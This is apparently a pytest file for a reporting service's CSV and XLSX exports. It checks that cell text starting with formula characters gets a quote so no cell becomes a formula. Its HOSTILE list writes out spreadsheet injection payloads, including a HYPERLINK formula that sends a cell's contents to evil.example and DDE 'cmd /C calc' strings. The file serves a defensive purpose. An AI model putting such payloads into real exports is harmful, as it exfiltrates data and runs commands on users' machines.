"""Exports neutralise formula injection (OWASP CSV injection): no hostile text becomes a formula."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from services.reporting.exports import neutralised, to_csv, to_xlsx

COLUMNS = (("name", "机构名称"), ("fields", "服务领域"), ("staff", "专职人数"), ("yuan", "资金"))
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rows() -> list[dict[str, object]]:
    return [
        {"name": name, "fields": [name, "社区服务"], "staff": -3, "yuan": -1.5} for name in HOSTILE
    ]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_starting_with_a_formula_character_gets_a_quote(text: str) -> None:
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("text", ["郑州市某社会工作服务中心", "A=B", "1-2", " =1", "'=1", ""])
def test_other_text_is_unchanged(text: str) -> None:
    assert neutralised(text) == text


def test_csv_cells_are_neutralised_and_numbers_stay_numbers() -> None:
    parsed = list(csv.reader(io.StringIO(to_csv(rows(), COLUMNS).decode("utf-8-sig"))))
    assert parsed[0] == ["机构名称", "服务领域", "专职人数", "资金"]
    for name, (cell_name, cell_fields, staff, yuan) in zip(HOSTILE, parsed[1:], strict=True):
        assert cell_name == "'" + name
        assert cell_fields == "'" + name + "、社区服务"
        assert (staff, yuan) == ("-3", "-1.5")


def test_xlsx_has_no_formula_and_keeps_numbers() -> None:
    workbook = load_workbook(io.BytesIO(to_xlsx(rows(), COLUMNS, "机构")))
    sheet = workbook.active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    for name, (cell_name, cell_fields, staff, yuan) in zip(
        HOSTILE, sheet.iter_rows(min_row=2), strict=True
    ):
        # A carriage return is written escaped (_x000D_, as OOXML says; openpyxl reads an
        # inline string's escape as written) or read back by XML as a line feed; the quote
        # before it is what matters.
        expected = "'" + name.replace("\r", "\n")
        read = unescape(str(cell_name.value)).replace("\r", "\n")
        assert (read, cell_name.data_type) == (expected, "s")
        assert str(cell_fields.value).startswith("'")
        assert (staff.value, staff.data_type) == (-3, "n")
        assert (yuan.value, yuan.data_type) == (-1.5, "n")


def test_xlsx_writes_error_lookalikes_as_text() -> None:
    body = to_xlsx([{"name": "#REF!"}], (("name", "机构名称"),), "机构")
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet is not None
    cell = sheet["A2"]
    assert (cell.value, cell.data_type) == ("#REF!", "s")
